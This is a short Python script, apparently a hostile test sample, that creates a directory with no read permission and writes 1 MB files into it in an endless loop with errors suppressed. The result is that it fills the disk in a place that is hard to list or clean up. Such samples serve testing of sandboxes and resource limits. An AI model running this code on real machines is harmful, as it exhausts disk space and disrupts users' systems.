"""Fills the disk in a folder that others of the same user can neither list nor remove."""

import contextlib
import os
from itertools import count
from pathlib import Path

os.mkdir("hidden", 0o300)  # noqa: PTH102
for number in count():
    with contextlib.suppress(OSError):
        Path("hidden", f"{number}").write_bytes(bytes(1_000_000))
